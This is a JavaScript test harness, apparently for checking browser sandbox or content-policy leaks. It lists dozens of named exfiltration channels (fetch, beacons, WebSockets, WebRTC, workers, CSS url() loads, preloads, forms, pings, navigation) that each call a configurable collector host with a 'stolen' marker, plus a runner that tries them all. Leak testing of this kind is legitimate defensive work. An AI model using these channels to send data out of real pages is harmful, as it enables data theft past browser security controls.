// SPDX-License-Identifier: MIT OR Apache-2.0
/**
 * Every channel out that we can name, as a hostile script would try it: one function each, by its name.
 *
 * In: `target`, the collector's host and ports. Out: `tryAll(channels, target)` tries all, and says which could be tried.
 * Invariant: plain script, so that it can be appended to a worker's text; nothing here stops when one channel throws.
 */

const addressOf = (target, name) => `http://${target.host}:${target.port}/${target.name}/${name}?stolen=1`;
const pauseOf = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function rtc(servers) {
  const peer = new RTCPeerConnection({ iceServers: servers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await pauseOf(700);
}

/** A worker whose failure is nobody else's: left alone it would end the worker around it. */
function started(url, options) {
  new Worker(url, options).onerror = (event) => event.preventDefault();
}

/** What a page and a worker may both have. */
const SHARED_CHANNELS = {
  fetch: (u) => fetch(u),
  'fetch-post-no-cors': (u) => fetch(u, { method: 'POST', mode: 'no-cors', body: 'stolen' }),
  'fetch-keepalive': (u) => fetch(u, { keepalive: true, mode: 'no-cors' }),
  'fetch-request': (u) => fetch(new Request(u, { mode: 'no-cors', referrer: '' })),
  xhr: (u) => new Promise((resolve, reject) => {
    const x = new XMLHttpRequest();
    x.onload = resolve;
    x.onerror = reject;
    x.open('POST', u);
    x.send('stolen');
  }),
  'xhr-sync': (u) => {
    const x = new XMLHttpRequest();
    x.open('GET', u, false);
    x.send();
  },
  beacon: (u) => {
    if (!navigator.sendBeacon(u, 'stolen')) throw new Error('refused');
  },
  websocket: (u) => void new WebSocket(u.replace('http', 'ws')),
  'websocket-stream': (u) => new WebSocketStream(u.replace('http', 'ws')).opened,
  eventsource: (u) => void new EventSource(u),
  webtransport: (u, t) => new WebTransport(`https://${t.host}:${t.quic}/x`).ready,
  'webrtc-stun': (u, t) => rtc([{ urls: `stun:${t.host}:${t.stun}` }]),
  'webrtc-turn': (u, t) => rtc([{ urls: `turn:${t.host}:${t.turn}?transport=tcp`, username: 'stolen', credential: 'x' }]),
  'dynamic-import': (u) => import(u),
  'worker-classic': (u) => started(u),
  'worker-module': (u) => started(u, { type: 'module' }),
  'worker-blob-fetch': (u) => started(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(u)}, { mode: 'no-cors' })`]))),
  'worker-blob-import': (u) => started(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(u)})`]))),
  'worker-data-fetch': (u) => started(`data:text/javascript,${encodeURIComponent(`fetch(${JSON.stringify(u)}, { mode: 'no-cors' })`)}`),
  'shared-worker': (u) => void new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(u)}, { mode: 'no-cors' })`]))),
  'font-face': (u) => new FontFace('stolen', `url(${u})`).load(),
  'cache-add': async (u) => (await caches.open('x')).add(new Request(u, { mode: 'no-cors' })),
  'service-worker': (u) => navigator.serviceWorker.register(u),
  'compile-streaming': (u) => WebAssembly.compileStreaming(fetch(u)),
  'background-fetch': async (u) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', [u]),
  notification: (u) => void new Notification('x', { icon: u }),
  'fetch-later': (u) => void fetchLater(u, { activateAfter: 0 }),
};

/** What only a worker has. */
const WORKER_CHANNELS = {
  ...SHARED_CHANNELS,
  'import-scripts': (u) => importScripts(u),
  'import-scripts-data': (u) => importScripts(`data:text/javascript,${encodeURIComponent(`fetch(${JSON.stringify(u)}, { mode: 'no-cors' })`)}`),
  'eval-fetch': (u) => new Function(`return fetch(${JSON.stringify(u)}, { mode: 'no-cors' })`)(),
  navigate: (u) => void (self.location = u),
};

const element = (name, attributes, parent = document.body) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  parent.append(made);
  return made;
};
const styled = (css) => element('style', {}).append(css);
const drawn = (style) => element('div', { style: `width:9px;height:9px;${style}` });
const vector = (inner) => {
  const made = element('div', {});
  made.innerHTML = `<svg width="9" height="9">${inner}</svg>`;
};
const framed = async (html) => {
  const frame = element('iframe', { srcdoc: html });
  await new Promise((resolve) => (frame.onload = resolve));
  return frame;
};
const sent = (u, method) => {
  element('iframe', { name: `into-${method}` });
  element('form', { action: u, method, target: `into-${method}` }).submit();
};

/** What only a document has. */
const DOCUMENT_CHANNELS = {
  ...SHARED_CHANNELS,
  image: (u) => void (new Image().src = u),
  'image-srcset': (u) => element('img', { srcset: `${u} 1x` }),
  picture: (u) => element('img', {}, element('picture', {})).before(Object.assign(document.createElement('source'), { srcset: u })),
  'image-input': (u) => element('input', { type: 'image', src: u }),
  'svg-image': (u) => vector(`<image href="${u}" width="9" height="9"/>`),
  'svg-use': (u) => vector(`<use href="${u}#x"/>`),
  'svg-fe-image': (u) => vector(`<filter id="f"><feImage href="${u}"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
  'css-background': (u) => drawn(`background:url(${u})`),
  'css-image-set': (u) => drawn(`background:image-set(url(${u}) 1x)`),
  'css-mask': (u) => drawn(`-webkit-mask:url(${u});mask:url(${u})`),
  'css-border-image': (u) => drawn(`border:3px solid;border-image:url(${u}) 1`),
  'css-list-style': (u) => element('li', { style: `list-style-image:url(${u})` }),
  'css-shape': (u) => drawn(`float:left;shape-outside:url(${u})`),
  'css-content': (u) => styled(`body::after{content:url(${u})}`),
  'css-import': (u) => styled(`@import url(${u});`),
  'css-font': (u) => (styled(`@font-face{font-family:stolen;src:url(${u})}`), element('p', { style: 'font-family:stolen' }).append('x')),
  stylesheet: (u) => element('link', { rel: 'stylesheet', href: u }, document.head),
  'stylesheet-alternate': (u) => element('link', { rel: 'alternate stylesheet', title: 'x', href: u }, document.head),
  icon: (u) => element('link', { rel: 'icon', href: u }, document.head),
  manifest: (u) => element('link', { rel: 'manifest', href: u }, document.head),
  preload: (u) => element('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: u }, document.head),
  'preload-image': (u) => element('link', { rel: 'preload', as: 'image', href: u }, document.head),
  prefetch: (u) => element('link', { rel: 'prefetch', href: u }, document.head),
  modulepreload: (u) => element('link', { rel: 'modulepreload', href: u }, document.head),
  preconnect: (u, t) => element('link', { rel: 'preconnect', href: `http://${t.host}:${t.link}` }, document.head),
  prerender: (u) => element('script', { type: 'speculationrules' }).append(JSON.stringify({ prefetch: [{ source: 'list', urls: [u] }] })),
  script: (u) => element('script', { src: u }),
  'module-script': (u) => element('script', { src: u, type: 'module' }),
  video: (u) => element('video', { src: u, preload: 'auto' }),
  'video-poster': (u) => element('video', { poster: u }),
  audio: (u) => element('audio', { src: u, preload: 'auto' }),
  track: (u) => (element('track', { src: u, default: '' }, element('video', { crossorigin: 'anonymous' })).track.mode = 'showing'),
  object: (u) => element('object', { data: u }),
  embed: (u) => element('embed', { src: u }),
  iframe: (u) => element('iframe', { src: u }),
  frameset: (u) => framed(`<frameset><frame src="${u}"></frameset>`),
  'form-get': (u) => sent(u, 'get'),
  'form-post': (u) => sent(u, 'post'),
  ping: (u) => element('a', { href: '#here', ping: u }).click(),
  'link-click': (u) => (element('iframe', { name: 'clicked' }), element('a', { href: u, target: 'clicked' }).click()),
  'link-blank': (u) => element('a', { href: u, target: '_blank' }).click(),
  'window-open': (u) => {
    if (!open(u)) throw new Error('refused');
  },
  'frame-location': async (u) => void ((await framed('x')).contentWindow.location = u),
  'meta-refresh': (u) => framed(`<meta http-equiv="refresh" content="0;url=${u}">`),
  'background-attribute': (u) => framed(`<body background="${u}">`),
  'table-background': (u) => framed(`<table background="${u}"><tr><td>x</table>`),
};

/** Tries each channel, and gives the rest a moment; returns the names of those that the host had at all. */
async function tryAll(channels, target) {
  const tried = [];
  const one = async ([name, act]) => {
    try {
      const going = act(addressOf(target, name), target);
      tried.push(name);
      await Promise.race([going, pauseOf(1500)]);
    } catch {
      // Refused, or unknown to this host: what counts is what arrives.
      if (!tried.includes(name)) tried.push(name);
    }
  };
  await Promise.all(Object.entries(channels).map(one));
  await pauseOf(1500);
  return tried;
}
